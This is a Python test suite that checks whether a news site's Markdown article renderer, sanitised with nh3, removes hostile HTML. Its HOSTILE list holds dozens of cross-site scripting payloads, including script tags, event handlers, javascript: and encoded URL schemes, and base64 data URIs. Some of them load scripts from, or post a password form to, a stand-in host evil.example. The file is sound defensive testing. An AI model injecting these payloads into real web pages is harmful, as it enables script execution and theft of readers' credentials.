"""Article bodies: Markdown rendered by markdown-it-py and sanitised by nh3, against a
corpus of hostile input. Whatever an editor (or a stolen editor account) writes, the
article page carries no script, handler, frame, style, form or dangerous URL."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.services import render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x61;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pic](javascript:alert(1))",
    '[ref]\n\n[ref]: javascript:alert(1) "title"',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://ok.example" onclick="alert(1)" target="_blank">ok</a>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://e.x">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<details open ontoggle="alert(1)">x</details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "<b><i>broken <u>markup",
    "``` \n<script>alert(1)</script>\n```",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
]

ALLOWED_TAGS = {
    "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "strong", "em", "b", "i", "a", "ul", "ol",
    "li", "blockquote", "code", "pre", "img", "table", "thead", "tbody", "tr", "th", "td",
    # Without attributes: numbers isolated in right-to-left text (core.script.isolate).
    "bdi",
}  # fmt: skip
ALLOWED_ATTRS = {"href", "title", "src", "alt", "rel"}
SCHEME = re.compile(r"^\s*([a-z][a-z0-9+.\-]*):", re.I)


class _Collector(HTMLParser):
    """What a browser would build: every element and attribute in the output."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_safe(html: str) -> None:
    parser = _Collector()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.found:
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs:
            assert name in ALLOWED_ATTRS, f"{name}= survived in {html!r}"
            if name in {"href", "src"}:
                # The attribute as the browser decodes it; a scheme must be a safe one.
                scheme = SCHEME.match(value or "")
                assert not scheme or scheme.group(1).lower() in {"http", "https", "mailto"}, (
                    f"{value!r} survived in {html!r}"
                )
            if name == "rel":
                assert value == "noopener"


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_is_defused(source):
    assert_safe(render_markdown(source))
    # ... also when it hides inside ordinary structure.
    assert_safe(render_markdown(f"## Heading\n\n> {source}\n\n- item {source}\n\n*{source}*"))


def test_ordinary_newspaper_markup_survives():
    html = render_markdown(
        "# Headline\n\n## Subhead\n\nText with *emphasis*, **strength** and a "
        '[link](https://dawn.com/news "Dawn").\n\n'
        "- one\n- two\n\n1. first\n\n> A quote\n\n![A rally](https://img.example/rally.jpg)\n\n"
        "Mail [us](mailto:desk@metoo.test)."
    )
    assert "<h2>Headline</h2>" in html and "<h3>Subhead</h3>" in html  # h1 is the title
    assert "<em>emphasis</em>" in html and "<strong>strength</strong>" in html
    assert '<a href="https://dawn.com/news" title="Dawn" rel="noopener">link</a>' in html
    assert "<ul>" in html and "<ol>" in html and "<blockquote>" in html
    assert '<img src="https://img.example/rally.jpg" alt="A rally">' in html
    assert 'href="mailto:desk@metoo.test"' in html


def test_links_open_normally_with_noopener():
    html = render_markdown('<a href="https://x.example" target="_blank" rel="opener">x</a>')
    assert html.strip() == '<p><a href="https://x.example" rel="noopener">x</a></p>'


def test_script_content_is_dropped_not_shown():
    html = render_markdown("Before <script>steal(document.cookie)</script> after")
    assert "steal" not in html and "Before" in html and "after" in html


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "text", "*", "[", "](", ")", "<", ">", '"', "\n", "&#", "javascript:"]
        ),
        max_size=8,
    ).map("".join)
)
def test_any_mix_of_hostile_fragments_stays_safe(source):
    assert_safe(render_markdown(source))
